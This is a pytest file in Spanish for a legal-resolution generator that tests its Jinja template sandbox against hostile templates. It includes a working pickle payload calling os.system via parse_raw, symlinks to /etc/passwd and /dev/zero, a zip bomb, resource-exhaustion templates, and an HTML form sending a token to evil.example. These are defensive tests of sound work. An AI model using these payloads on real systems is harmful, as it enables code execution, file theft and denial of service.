"""Ataques de un autor de plantillas hostil (issue 11): cada prueba lleva el nombre del ataque.

Una carpeta de plantillas que llega de otra institución se trata como hostil: bloques de
texto, cláusulas del catálogo, etiquetas del diseño de Word, esqueletos de ``nuevo`` y
patrones del perfil ven solo datos, se leen solo de su carpeta y tienen límites.
El ataque que importa es el de ``parse_raw(…, proto='pickle', allow_pickle=True)``: con
el contexto de antes (modelos de pydantic) ejecutaba una orden del sistema.
"""

from __future__ import annotations

import datetime as _dt
import io
import os
import pickle
import shutil
import time
import zipfile
from pathlib import Path

import pytest
import yaml

from generador.errores import ErrorDeUsuario
from generador.plantillas.contexto import Funcion, Registro, a_datos
from generador.plantillas.entorno import crear_entorno, renderizar

from .conftest import RAIZ

MUESTRA = RAIZ / "samples" / "cta-40418.yaml"


class _Orden:
    """Al deserializarse con pickle, crea un archivo (la prueba de que se ejecutó código)."""

    def __init__(self, marca):
        self.marca = str(marca)

    def __reduce__(self):
        return (os.system, (f"touch {self.marca}",))


def _carga(marca) -> str:
    """El pickle de la orden como literal de cadena de Jinja."""
    texto = pickle.dumps(_Orden(marca), protocol=0).decode("latin1")
    return texto.replace("\\", "\\\\").replace("\n", "\\n").replace("'", "\\'")


def _ataque(objeto: str, marca) -> str:
    return f"{{{{ {objeto}.parse_raw('{_carga(marca)}', proto='pickle', allow_pickle=True) }}}}"


def _plantillas_sre(tmp_path):
    """Una carpeta de plantillas propia con una copia del perfil de la SRE (tiene prioridad)."""
    destino = tmp_path / "plantillas" / "instituciones" / "sre"
    shutil.copytree(RAIZ / "plantillas" / "instituciones" / "sre", destino)
    return tmp_path / "plantillas", destino


def _sin_efecto(codigo, errores, marca, salida):
    assert codigo == 2, errores
    assert "Traceback" not in errores
    assert not marca.exists(), "la plantilla ejecutó una orden del sistema"
    assert not salida.exists(), "se escribió el documento a pesar del ataque"


def test_parse_raw_pickle_en_un_bloque_de_texto(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    marca = tmp_path / "ejecutado"
    (perfil / "textos" / "reserva").mkdir(parents=True)
    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(f"<p>{_ataque('exp', marca)}</p>", "utf-8")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    _sin_efecto(codigo, errores, marca, salida)
    assert "parse_raw" in errores and "cuerpo.html.j2" in errores


def test_parse_raw_pickle_del_perfil_en_un_bloque_silencioso(cli, tmp_path):
    """La variante silenciosa: el ataque dentro de un {% set %} y el documento normal después."""
    plantillas, perfil = _plantillas_sre(tmp_path)
    marca = tmp_path / "ejecutado"
    original = (RAIZ / "plantillas" / "textos" / "reserva" / "cuerpo.html.j2").read_text("utf-8")
    (perfil / "textos" / "reserva").mkdir(parents=True)
    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
        "{% set x = " + _ataque("inst", marca)[3:-3] + " %}" + original, "utf-8")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    _sin_efecto(codigo, errores, marca, salida)


def test_parse_raw_pickle_en_una_clausula_del_catalogo(cli, tmp_path):
    marca = tmp_path / "ejecutado"
    catalogo = tmp_path / "catalogo"
    catalogo.mkdir()
    (catalogo / "clausulas.yaml").write_text(yaml.safe_dump({"clausulas": [{
        "id": "resolutivo.ataque", "tipo": "resolutivo", "titulo": "Ataque",
        "variables": {"fundamentos": {"descripcion": "ids", "tipo": "fundamentos"}},
        "texto": "Que el Comité es competente. " + _ataque("exp.solicitudes[0]", marca),
    }]}, allow_unicode=True), "utf-8")
    caso = tmp_path / "caso.yaml"
    caso.write_text(MUESTRA.read_text("utf-8").replace("clausula: resolutivo.competencia",
                                                       "clausula: resolutivo.ataque", 1), "utf-8")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(caso), "--catalogo", str(catalogo), "-o", str(salida))
    _sin_efecto(codigo, errores, marca, salida)
    # y la revisión estática del catálogo lo encuentra sin ejecutar nada
    codigo, salida_validar, errores_validar = cli("catalogo", "validar", str(catalogo))
    assert codigo == 2
    assert "parse_raw" in salida_validar + errores_validar
    assert not marca.exists()


def _diseno_con(etiqueta: str, destino) -> None:
    """El diseño del proyecto con una etiqueta más en el cuerpo del documento."""
    with zipfile.ZipFile(RAIZ / "plantillas" / "word" / "resolucion.docx") as original, \
            zipfile.ZipFile(destino, "w") as nuevo:
        for nombre in original.namelist():
            datos = original.read(nombre)
            if nombre == "word/document.xml":
                texto = datos.decode("utf-8")
                parrafo = f'<w:p><w:r><w:t xml:space="preserve">{etiqueta}</w:t></w:r></w:p>'
                texto = texto.replace("<w:body>", "<w:body>" + parrafo.replace("'", "&apos;"), 1)
                datos = texto.encode("utf-8")
            nuevo.writestr(nombre, datos)


def test_parse_raw_pickle_en_una_etiqueta_del_diseno_de_word(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    marca = tmp_path / "ejecutado"
    _diseno_con(_ataque("inst", marca), perfil / "resolucion.docx")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    _sin_efecto(codigo, errores, marca, salida)
    codigo, salida_validar, _ = cli("plantillas", "validar", str(plantillas))
    assert codigo == 2 and "parse_raw" in salida_validar


def test_parse_raw_pickle_en_el_firmante_del_diseno_de_word(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    marca = tmp_path / "ejecutado"
    _diseno_con(_ataque("firmantes[0]", marca), perfil / "resolucion.docx")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    _sin_efecto(codigo, errores, marca, salida)


def test_parse_raw_pickle_en_un_esqueleto_de_nuevo(cli, tmp_path):
    plantillas, _ = _plantillas_sre(tmp_path)
    marca = tmp_path / "ejecutado"
    (plantillas / "nuevos").mkdir()
    (plantillas / "nuevos" / "reserva.yaml.j2").write_text("tipo: reserva\n" + _ataque("inst", marca), "utf-8")
    salida = tmp_path / "caso.yaml"
    codigo, _, errores = cli("nuevo", "--tipo", "reserva", "--institucion", "sre", "--plantillas", str(plantillas),
                             "-o", str(salida))
    _sin_efecto(codigo, errores, marca, salida)
    codigo, salida_validar, _ = cli("plantillas", "validar", str(plantillas))
    assert codigo == 2 and "parse_raw" in salida_validar


def test_include_de_un_enlace_simbolico_a_etc_passwd(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    textos = perfil / "textos" / "reserva"
    textos.mkdir(parents=True)
    (textos / "robado.html.j2").symlink_to("/etc/passwd")
    (textos / "cuerpo.html.j2").write_text('<p>{% include "reserva/robado.html.j2" %}</p>', "utf-8")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    assert codigo == 2 and not salida.exists()
    assert "root:" not in errores and "sale de su carpeta" in errores
    codigo, salida_validar, _ = cli("plantillas", "validar", str(plantillas))
    assert codigo == 2 and "robado.html.j2" in salida_validar and "fuera" in salida_validar


def test_diseno_de_word_fuera_de_la_carpeta_del_perfil(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    ajeno = tmp_path / "ajeno.docx"
    _diseno_con("{{ oficio }}", ajeno)
    datos = yaml.safe_load((perfil / "perfil.yaml").read_text("utf-8"))
    datos["plantilla_word"] = "../../../ajeno.docx"
    (perfil / "perfil.yaml").write_text(yaml.safe_dump(datos, allow_unicode=True), "utf-8")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    assert codigo == 2 and not salida.exists() and "diseño de Word" in errores


@pytest.mark.parametrize("patron, dice", [
    ("CTA-{consecutivo.__class__.__mro__}", "no existe"),
    ("CTA-{consecutivo:>900000000}", "ancho"),
    ("CTA-{consecutivo!r}", "no se permite"),
    ("CTA-{0}", "no existe"),
    ("CTA-{consecutivo:{anio}}", "no se permite"),
])
def test_patron_oficio_que_recorre_atributos_o_agota_la_memoria(cli, tmp_path, patron, dice):
    plantillas, perfil = _plantillas_sre(tmp_path)
    datos = yaml.safe_load((perfil / "perfil.yaml").read_text("utf-8"))
    datos["patron_oficio"] = patron
    (perfil / "perfil.yaml").write_text(yaml.safe_dump(datos, allow_unicode=True), "utf-8")
    inicio = time.monotonic()
    codigo, _, errores = cli("nuevo", "--tipo", "reserva", "--institucion", "sre", "--consecutivo", "7",
                             "--plantillas", str(plantillas))
    assert codigo == 2 and "Traceback" not in errores
    assert "patron_oficio" in errores and dice in errores
    assert time.monotonic() - inicio < 10
    codigo, salida_validar, _ = cli("plantillas", "validar", str(plantillas))
    assert codigo == 2 and "patron_oficio" in salida_validar


def test_patron_oficio_valido_sigue_funcionando(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    datos = yaml.safe_load((perfil / "perfil.yaml").read_text("utf-8"))
    datos["patron_oficio"] = "CT/{anio}/{consecutivo:04d}"
    (perfil / "perfil.yaml").write_text(yaml.safe_dump(datos, allow_unicode=True), "utf-8")
    codigo, salida, errores = cli("nuevo", "--tipo", "reserva", "--institucion", "sre", "--consecutivo", "7",
                                  "--fecha", "2026-05-04", "--plantillas", str(plantillas))
    assert codigo == 0, errores
    assert 'oficio: "CT/2026/0007"' in salida


# --- límites de trabajo: cada uno es un error claro y rápido, nunca un cuelgue ---------------

@pytest.mark.parametrize("plantilla, dice", [
    ("{{ 7 ** 999999999 }}", "bits"),
    ("{{ (10 ** 1000) * (10 ** 1000) * (10 ** 1000) * (10 ** 1000) * (10 ** 1000) }}", "bits"),
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "vueltas"),
    ("{{ range(10 ** 9) | list | length }}", "vueltas"),
    ("{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}", "anida"),
    ("{{ 'x' * 10 ** 9 }}", "repite"),
    ("{% set ns = namespace(v='xx') %}{% for i in range(40) %}{% set ns.v = ns.v ~ ns.v %}{% endfor %}", "caracteres"),
    ("{% set ns = namespace(v='xx') %}{% for i in range(40) %}{% set ns.v %}{{ ns.v }}{{ ns.v }}{% endset %}"
     "{% endfor %}", "caracteres"),
    ("{% set ns = namespace(v='xx') %}{% for i in range(40) %}{% set ns.v = ns.v + ns.v %}{% endfor %}", "caracteres"),
    ("{{ '%0999999999d' % 1 }}", "ancho"),
    ("{{ '%0999999999d' | format(1) }}", "ancho"),
    ("{{ 'x' | center(900000000) }}", "center"),
    ("{{ lipsum(10 ** 9) }}", "lipsum"),
    ("{% set s = 'x' * 4000000 %}{{ s | replace('x', s) }}", "replace"),
    ("{{ [1, 2] | batch(10 ** 9, 0) | list }}", "batch"),
    ("{{ (10 ** 400) | cardinal }}", "grande"),
    ("{{ 1 // 0 }}", "cero"),
])
def test_limites_de_render(tmp_path, plantilla, dice):
    (tmp_path / "p.html.j2").write_text(plantilla, "utf-8")
    inicio = time.monotonic()
    with pytest.raises(ErrorDeUsuario) as info:
        renderizar(crear_entorno([tmp_path]), "p.html.j2", {})
    assert time.monotonic() - inicio < 8
    assert dice in str(info.value), str(info.value)
    assert "p.html.j2" in str(info.value)


def test_limite_de_tiempo_por_documento(tmp_path, monkeypatch):
    """Un bucle que no produce nada ni pasa del límite de vueltas, pero tarda: se corta por tiempo."""
    monkeypatch.setenv("RESOLUCIONES_TIEMPO_PLANTILLA", "0.5")
    (tmp_path / "p.html.j2").write_text(
        "{% for i in range(400) %}{% for j in range(400) %}{{ (j ** 300) % 7 }}{% endfor %}{% endfor %}", "utf-8")
    inicio = time.monotonic()
    with pytest.raises(ErrorDeUsuario) as info:
        renderizar(crear_entorno([tmp_path]), "p.html.j2", {})
    assert "tiempo" in str(info.value)
    assert time.monotonic() - inicio < 5


def test_un_limite_excedido_no_deja_el_siguiente_render_sin_presupuesto(tmp_path):
    (tmp_path / "malo.html.j2").write_text("{{ range(10 ** 9) | list | length }}", "utf-8")
    (tmp_path / "bueno.html.j2").write_text("{% for i in range(200000) %}{% endfor %}listo", "utf-8")
    entorno = crear_entorno([tmp_path])
    with pytest.raises(ErrorDeUsuario):
        renderizar(entorno, "malo.html.j2", {})
    assert renderizar(entorno, "bueno.html.j2", {}) == "listo"


def test_limites_de_render_desde_el_cli_sin_traza(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    (perfil / "textos" / "reserva").mkdir(parents=True)
    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
        "<p>{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}</p>", "utf-8")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    assert codigo == 2 and "Traceback" not in errores and not salida.exists()
    assert "cuerpo.html.j2" in errores


# --- lo que ven las plantillas: solo datos --------------------------------------------------

def _solo_datos(valor, ruta="contexto"):
    if isinstance(valor, Registro):
        for clave in valor:
            _solo_datos(valor[clave], f"{ruta}.{clave}")
    elif isinstance(valor, (list, tuple)):
        for i, v in enumerate(valor):
            _solo_datos(v, f"{ruta}[{i}]")
    elif isinstance(valor, dict):
        for k, v in valor.items():
            _solo_datos(v, f"{ruta}.{k}")
    else:
        assert valor is None or isinstance(valor, (str, int, float, _dt.date, Funcion)), \
            f"{ruta} es un {type(valor).__name__}"


def test_el_contexto_de_los_bloques_es_solo_datos():
    from generador.redaccion.redactor import _Redactor
    from generador.tuberia import leer_caso

    for muestra in sorted((RAIZ / "samples").glob("*.yaml")):
        caso = leer_caso(muestra)
        perfil, carpeta = caso.perfil
        redactor = _Redactor(caso.expediente, caso.catalogo, perfil, carpeta, caso.documento, caso.plantillas)
        _solo_datos(redactor.contexto())


def test_el_contexto_no_acepta_objetos():
    with pytest.raises(TypeError):
        a_datos(object())
    with pytest.raises(TypeError):
        a_datos({"f": open})


@pytest.mark.parametrize("maliciosa", [
    "{{ exp.model_fields }}",
    "{{ exp.copy() }}",
    "{{ exp.solicitudes[0].model_dump_json() }}",
    "{{ exp.fecha.replace(year=1) }}",
    "{{ ''.format }}",
    "{{ 'a'.join(['b']) }}",
    "{{ citar.nombre }}",
    "{{ exp.__class__ }}",
    "{{ exp['__class__'] }}",
    "{{ cycler.__init__ }}",
    "{{ (1).bit_length() }}",
])
def test_fuera_de_la_lista_de_lo_permitido(tmp_path, maliciosa):
    from generador.redaccion.redactor import _Redactor
    from generador.tuberia import leer_caso

    caso = leer_caso(MUESTRA)
    perfil, carpeta = caso.perfil
    contexto = _Redactor(caso.expediente, caso.catalogo, perfil, carpeta, caso.documento, caso.plantillas).contexto()
    (tmp_path / "p.html.j2").write_text(maliciosa, "utf-8")
    with pytest.raises(ErrorDeUsuario) as info:
        renderizar(crear_entorno([tmp_path]), "p.html.j2", contexto)
    texto = str(info.value)
    assert "no permitida" in texto or "no existe" in texto, texto


def test_lo_documentado_sigue_funcionando(tmp_path):
    """Lo que usan las plantillas del proyecto y la documentación de autores."""
    plantilla = ("{% set ns = namespace(n=0) %}{% for s in exp.solicitudes %}{% set ns.n = ns.n + 1 %}"
                 "{{ loop.index }}:{{ s.folio }}{% endfor %}|{{ ns.n }}|{{ exp.fecha.year }}|"
                 "{{ inst.comite_completo | upper }}|{{ exp.folios | join(', ') }}|"
                 "{{ exp.clasificaciones[0].periodo_reserva.expiracion(exp.fecha) }}|"
                 "{{ 'abc'.upper() }}|{{ fecha(exp.fecha) }}|{{ dict(a=1).items() | list }}|"
                 "{{ exp.firmantes_en_orden() | map(attribute='nombre') | first }}")
    from generador.redaccion.redactor import _Redactor
    from generador.tuberia import leer_caso

    caso = leer_caso(RAIZ / "samples" / "cta-40418-corregida.yaml")
    perfil, carpeta = caso.perfil
    contexto = _Redactor(caso.expediente, caso.catalogo, perfil, carpeta, caso.documento, caso.plantillas).contexto()
    (tmp_path / "p.html.j2").write_text(plantilla, "utf-8")
    salida = renderizar(crear_entorno([tmp_path]), "p.html.j2", contexto)
    assert salida.startswith("1:0000500194518|1|2018|COMITÉ DE TRANSPARENCIA DE LA SECRETARÍA")
    assert "|ABC|21 de noviembre de 2018|[(&#39;a&#39;, 1)]|" in salida
    assert "2023-11-" in salida  # la expiración del periodo de reserva de la corregida


def test_diseno_de_word_del_proyecto_genera_igual(cli, tmp_path):
    """El contexto de datos no cambia el documento: mismo .docx que con el diseño original."""
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "-o", str(salida))
    assert codigo in (0, 1), errores
    with zipfile.ZipFile(io.BytesIO(salida.read_bytes())) as paquete:
        assert "OSCAR SÁNCHEZ DELGADO" in paquete.read("word/document.xml").decode("utf-8")


# --- lo que encontró el segundo ataque (un ayudante, sobre el entorno aislado ya hecho) -----

@pytest.mark.parametrize("plantilla, dice", [
    # una tupla de 200 000 niveles: al compararla (unique) se rompía la pila de C
    ("{% set ns = namespace(x=()) %}{% for i in range(200000) %}{% set ns.x = (ns.x,) %}{% endfor %}"
     "{{ [ns.x] | unique | list | length }}", "anidadas"),
    ("{{ cycler() }}", "p.html.j2"),
    ("{{ 'nan' | moneda }}", "p.html.j2"),
    ("{{ '\\ud800' }}", "sustituto"),
    ("{{ " + "[" * 300 + "]" * 300 + " }}", "anida"),
    ("{{ ['a' * 5000000] * 300 }}", "demasiadas veces"),
    ("{% set l = ['a' * 4000000] %}{{ l ~ l }}", "caracteres"),
    ("{{ ('a' * 1500000) | join('b' * 1000) }}", "join"),
    ("{{ ('%s' * 300) % (('a' * 5000000,) * 300) }}", "demasiadas veces"),
    ("{% set t = ('a' * 3000000, 'b' * 3000000) %}{{ '%s%s' % t }}", "caracteres"),
    ("{{ '%(a)1500000000d' % {'a': 1} }}", "ancho"),
    ("{{ '%(a)1500000000d' | format(a=1) }}", "ancho"),
    ("{{ [[1]] | tojson(indent=500000000) }}", "tojson"),
    ("{{ ('\\n' * 1500000) | indent(1000, true, true) }}", "indent"),
    ("{{ ('a' * 5000000) | wordwrap(1) | length }}", "wordwrap"),
    ("{{ ([[0] * 1000] * 150000) | sum(start=[]) | length }}", "demasiadas veces"),
    ("{{ [[0] * 1000] | sum(start=[]) | length }}", "sum"),
    ("{{ ('a ' * 2000000) | urlize | length }}", "urlize"),
    # tercer ataque: urlize retrocede de forma cuadrática; textos guardados en una lista literal
    # o en namespaces anidados pasan cada comprobación de un solo valor
    ("{{ (')' * 60000 ~ 'a)') | urlize }}", "urlize"),
    ("{% set s = 'a' * 4999000 %}{% set l = [" + ", ".join(f"s ~ {i}" for i in range(30)) + "] %}{{ l | length }}",
     "caracteres"),
    ("{% set s = 'a' * 4999000 %}{% set ns = namespace(l=[]) %}{% for i in range(300) %}"
     "{% set ns.l = ns.l + [namespace(v=s ~ i)] %}{% endfor %}{{ ns.l | length }}", "caracteres"),
    ("{% set s = 'a' * 4999000 %}{% set l = [" + ", ".join(f"s ~ {i}" for i in range(300)) + "] %}{{ l | length }}",
     "en total"),
])
def test_segundo_ataque_limites(tmp_path, plantilla, dice):
    test_limites_de_render(tmp_path, plantilla, dice)


def test_tupla_honda_no_rompe_el_proceso_desde_el_cli(tmp_path):
    """En un proceso aparte: antes moría con la señal 11 (sin mensaje, sin código 2)."""
    import subprocess
    import sys

    plantillas, perfil = _plantillas_sre(tmp_path)
    (perfil / "textos" / "reserva").mkdir(parents=True)
    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
        "<p>{% set ns = namespace(x=()) %}{% for i in range(200000) %}{% set ns.x = (ns.x,) %}{% endfor %}"
        "{{ [ns.x] | unique | list | length }}</p>", "utf-8")
    proceso = subprocess.run([sys.executable, "-m", "generador", "generar", str(MUESTRA), "--plantillas",
                              str(plantillas), "-o", str(tmp_path / "r.docx")], capture_output=True, text=True,
                             timeout=120)
    assert proceso.returncode == 2, proceso.stderr
    assert "Traceback" not in proceso.stderr and "anidadas" in proceso.stderr


def test_un_presupuesto_para_todo_el_documento(cli, tmp_path):
    """Cuerpo y diseño de Word comparten las vueltas (y el tiempo): antes cada render tenía
    las suyas, y cada cláusula o parte de Word sumaba otros 10 s."""
    plantillas, perfil = _plantillas_sre(tmp_path)
    original = (RAIZ / "plantillas" / "textos" / "reserva" / "cuerpo.html.j2").read_text("utf-8")
    (perfil / "textos" / "reserva").mkdir(parents=True)
    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
        "{% for i in range(150000) %}{% endfor %}" + original, "utf-8")
    _diseno_con("{% for i in range(150000) %}{% endfor %}{{ oficio }}", perfil / "resolucion.docx")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    assert codigo == 2 and "vueltas" in errores and not salida.exists()


@pytest.mark.parametrize("prepara, dice", [
    (lambda d: (d / "a.j2").write_bytes(b"\xff\xfe"), "UTF-8"),
    (lambda d: (d / "b.j2").mkdir(), "no es un archivo normal"),
    (lambda d: os.mkfifo(d / "c.j2"), "no es un archivo normal"),
    (lambda d: (d / "d.j2").symlink_to("/dev/zero"), "apunta fuera"),
    (lambda d: os.truncate((d / "e.j2").open("wb").name, 3 * 2**30), "pesa más"),
])
def test_plantillas_validar_con_archivos_raros(cli, tmp_path, prepara, dice):
    carpeta = tmp_path / "plantillas" / "textos"
    carpeta.mkdir(parents=True)
    prepara(carpeta)
    inicio = time.monotonic()
    codigo, salida, errores = cli("plantillas", "validar", str(tmp_path / "plantillas"))
    assert time.monotonic() - inicio < 20
    assert codigo == 2 and "Traceback" not in errores and dice in salida, salida + errores


def test_diseno_de_word_que_es_una_bomba_zip(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    with zipfile.ZipFile(RAIZ / "plantillas" / "word" / "resolucion.docx") as original, \
            zipfile.ZipFile(perfil / "resolucion.docx", "w", zipfile.ZIP_DEFLATED) as nuevo:
        for nombre in original.namelist():
            datos = original.read(nombre)
            if nombre == "word/document.xml":
                datos = datos.replace(b"</w:document>", b" " * (60 * 2**20) + b"</w:document>")
            nuevo.writestr(nombre, datos)
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    assert codigo == 2 and "demasiados datos" in errores and not salida.exists()
    codigo, texto, _ = cli("plantillas", "validar", str(plantillas))
    assert codigo == 2 and "demasiados datos" in texto


def test_perfil_que_es_un_enlace_fuera_de_su_carpeta(cli, tmp_path):
    plantillas, perfil = _plantillas_sre(tmp_path)
    ajeno = tmp_path / "ajeno.yaml"
    shutil.move(perfil / "perfil.yaml", ajeno)
    (perfil / "perfil.yaml").symlink_to(ajeno)
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(tmp_path / "r.docx"))
    assert codigo == 2 and "sale de su carpeta" in errores


def test_catalogo_con_un_enlace_a_dev_zero(cli, tmp_path):
    catalogo = tmp_path / "catalogo"
    catalogo.mkdir()
    (catalogo / "cero.yaml").symlink_to("/dev/zero")
    inicio = time.monotonic()
    codigo, salida, errores = cli("catalogo", "validar", str(catalogo))
    assert time.monotonic() - inicio < 20
    assert codigo == 2 and "Traceback" not in errores and "sale de su carpeta" in salida + errores


def test_vista_previa_no_deja_pasar_html_de_la_plantilla(tmp_path):
    """Un comentario «<!-->» que Python lee como comentario y un navegador no: escondía un
    meta refresh y un formulario hacia otro sitio."""
    from generador.web import crear_app

    plantillas, perfil = _plantillas_sre(tmp_path)
    (perfil / "textos" / "reserva").mkdir(parents=True)
    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
        '<p>x</p><!--><meta http-equiv="refresh" content="0;url=https://evil.example/">'
        '<form action="https://evil.example/robar" method="post"><input name="token"></form>--><p>y &amp; z</p>',
        "utf-8")
    casos = tmp_path / "casos"
    casos.mkdir()
    shutil.copy(MUESTRA, casos / "cta-40418.yaml")
    app = crear_app(casos, plantillas=[plantillas])
    app.config["TESTING"] = True
    respuesta = app.test_client().get("/caso/cta-40418.yaml/vista")
    pagina = respuesta.get_data(as_text=True)
    assert respuesta.status_code == 200
    assert "evil.example" not in pagina and "<meta http-equiv" not in pagina and "<form action=\"https" not in pagina
    assert "<p>x</p>" in pagina and "y &amp; z" in pagina
    assert "form-action 'self'" in respuesta.headers["Content-Security-Policy"]


def _carpeta_secreta(tmp_path) -> Path:
    """Una carpeta de fuera con algo que ninguna plantilla debe poder leer."""
    secreta = tmp_path / "fuera"
    (secreta / "reserva").mkdir(parents=True)
    (secreta / "secreto.txt").write_text("CONTRASENA-DEL-SERVIDOR", "utf-8")
    (secreta / "reserva" / "cuerpo.html.j2").write_text("<p>{% include 'secreto.txt' %}</p>", "utf-8")
    shutil.copy(RAIZ / "plantillas" / "word" / "resolucion.docx", secreta / "resolucion.docx")
    return secreta


@pytest.mark.parametrize("enlace", ["textos", "instituciones/sre/textos", "word", "instituciones/sre/catalogo",
                                    "nuevos"])
def test_una_carpeta_de_la_plantilla_que_es_un_enlace_afuera_no_se_usa(cli, tmp_path, enlace):
    """La auditoría: con «textos -> /etc», el límite pasaba a ser /etc y «{% include 'passwd' %}»
    metía el archivo en la resolución (generar, lote y la vista previa de la página)."""
    plantillas, perfil = _plantillas_sre(tmp_path)
    secreta = _carpeta_secreta(tmp_path)
    (plantillas / enlace).parent.mkdir(parents=True, exist_ok=True)
    (plantillas / enlace).symlink_to(secreta, target_is_directory=True)
    salida = tmp_path / "r.docx"
    if enlace == "nuevos":
        codigo, _, errores = cli("nuevo", "--tipo", "reserva", "--institucion", "sre", "--plantillas", str(plantillas),
                                 "-o", str(tmp_path / "n.yaml"))
        assert codigo == 2 and not (tmp_path / "n.yaml").exists(), errores
    else:
        codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
        assert codigo == 2 and not salida.exists(), errores
    assert "apunta fuera de la carpeta de plantillas" in errores and "Traceback" not in errores
    assert "CONTRASENA" not in errores
    codigo, salida_validar, _ = cli("plantillas", "validar", str(plantillas))
    assert codigo == 2 and "apunta fuera" in salida_validar


def test_una_carpeta_de_perfil_que_es_un_enlace_afuera_no_se_usa(cli, tmp_path):
    plantillas = tmp_path / "plantillas"
    (plantillas / "instituciones").mkdir(parents=True)
    ajena = tmp_path / "ajena"
    shutil.copytree(RAIZ / "plantillas" / "instituciones" / "sre", ajena)
    (plantillas / "instituciones" / "sre").symlink_to(ajena, target_is_directory=True)
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(tmp_path / "r.docx"))
    assert codigo == 2 and "apunta fuera de la carpeta de plantillas" in errores


def test_la_carpeta_de_plantillas_misma_puede_ser_un_enlace(cli, tmp_path):
    """La raíz la elige quien usa el programa (--plantillas): puede vivir en otro disco."""
    plantillas, _ = _plantillas_sre(tmp_path)
    enlace = tmp_path / "mis_plantillas"
    enlace.symlink_to(plantillas, target_is_directory=True)
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(enlace), "-o", str(tmp_path / "r.docx"))
    assert codigo == 0, errores


def test_una_plantilla_con_demasiadas_etiquetas_no_se_compila(cli, tmp_path):
    """Compilar no tiene los límites del render: un bloque de 1 MB con 199 000 «{{a}}» usaba 2 GB
    y 13 s antes de fallar. Se cuentan las etiquetas antes de analizar nada."""
    plantillas, perfil = _plantillas_sre(tmp_path)
    (perfil / "textos" / "reserva").mkdir(parents=True)
    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text("<p>" + "{{a}}" * 6000 + "</p>", "utf-8")
    salida = tmp_path / "r.docx"
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
    assert codigo == 2 and not salida.exists() and "6 000 etiquetas" in errores and "Traceback" not in errores
    codigo, salida_validar, _ = cli("plantillas", "validar", str(plantillas))
    assert codigo == 2 and "6 000 etiquetas" in salida_validar


def test_una_clausula_con_demasiadas_etiquetas_no_se_compila(cli, tmp_path):
    catalogo = tmp_path / "catalogo"
    catalogo.mkdir()
    (catalogo / "c.yaml").write_text("clausulas:\n  - id: resolutivo.grande\n    tipo: resolutivo\n    titulo: G\n"
                                     "    texto: '" + "{{ exp.oficio }}" * 6000 + "'\n", "utf-8")
    codigo, salida, errores = cli("catalogo", "validar", str(catalogo))
    assert codigo == 2 and "6 000 etiquetas" in salida + errores and "Traceback" not in errores


def test_un_yaml_con_millones_de_valores_no_se_arma(cli, tmp_path):
    """El analizador de C arma el árbol entero antes de devolver nada: un perfil de 18 MB con una
    lista de nueve millones de elementos usaba 4 GB y casi dos minutos."""
    plantillas, perfil = _plantillas_sre(tmp_path)
    texto = (perfil / "perfil.yaml").read_text("utf-8")
    (perfil / "perfil.yaml").write_text(texto + "\nsobra: [" + "a," * 250_000 + "a]\n", "utf-8")
    inicio = time.monotonic()
    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(tmp_path / "r.docx"))
    assert codigo == 2 and "demasiado grande" in errores and "perfil.yaml" in errores
    assert time.monotonic() - inicio < 60  # sin la cota, minutos; el límite solo evita colgar la prueba


def test_dias_habiles_con_un_numero_enorme_es_un_error_inmediato(tmp_path):
    from generador.redaccion.redactor import MAXIMO_DIAS_HABILES

    plantillas, perfil = _plantillas_sre(tmp_path)
    (perfil / "textos" / "reserva").mkdir(parents=True)
    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
        "<p>{{ dias_habiles(exp.fecha, 1000000000) }}</p>", "utf-8")
    from generador.tuberia import generar_docx, leer_caso

    with pytest.raises(ErrorDeUsuario) as info:
